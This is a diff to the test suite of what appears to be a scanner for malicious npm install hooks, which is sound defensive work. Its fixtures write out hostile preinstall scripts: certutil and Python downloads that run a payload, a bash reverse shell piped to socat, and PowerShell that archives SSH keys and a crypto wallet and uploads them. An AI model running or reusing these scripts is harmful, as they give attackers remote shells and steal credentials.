@@ -75,3 +75,44 @@ module.exports = function install(url, sha, dest) {
     ).toBe('clean');
   });
 });
+
+describe('download-then-run, reverse shells and secret uploads in every script language', () => {
+  const hook = (script: string, file: string, extra: Record<string, string> = {}) =>
+    analyzeSource({
+      'package.json': pkg({ scripts: { preinstall: script } }),
+      [file]: extra[file] ?? '',
+      ...extra,
+    });
+  it('batch: certutil fetches to a variable path, start runs it hidden', () => {
+    const r = hook('cmd /c get.cmd', 'get.cmd', {
+      'get.cmd': `@echo off\r\nset "T=%APPDATA%\\svc.exe"\r\ncertutil -urlcache -split -f http://198.51.100.7/a.exe "%T%" >nul 2>&1\r\nstart "" /min "%T%"\r\n`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('python: wget.download then subprocess in a new session', () => {
+    const r = hook('python3 boot.py', 'boot.py', {
+      'boot.py': `import subprocess, wget, tempfile, os\np = os.path.join(tempfile.gettempdir(), '.w')\nwget.download('http://198.51.100.7/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p], start_new_session=True)\n`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('sh: a named pipe feeding an interactive shell whose output goes to socat on the next line', () => {
+    const r = hook('sh s.sh', 's.sh', {
+      's.sh': `P=/tmp/.q\nmkfifo "$P"\ntail -f "$P" | bash -i 2>&1 | socat - TCP:relay.example:443 > "$P" &\n`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('PowerShell: key and wallet paths in a list, archived, uploaded with curl -T', () => {
+    const r = hook('powershell -File c.ps1', 'c.ps1', {
+      'c.ps1': `$p = @("$env:USERPROFILE\\.ssh\\id_ed25519", "$env:APPDATA\\Exodus\\exodus.wallet")\nCompress-Archive -Path $p -DestinationPath $env:TEMP\\b.zip\ncurl.exe -T $env:TEMP\\b.zip http://198.51.100.9/u\n`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a release script that writes ~/.npmrc and uploads an artifact is not an exfiltration', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'scripts/release.sh': `echo "//registry.example/:_authToken=$NPM_TOKEN" > ~/.npmrc\ncurl -T dist/app.tgz "$UPLOAD_URL"\n`,
+    });
+    expect(threatsOf(r)).not.toContain('data_exfiltration');
+  });
+});
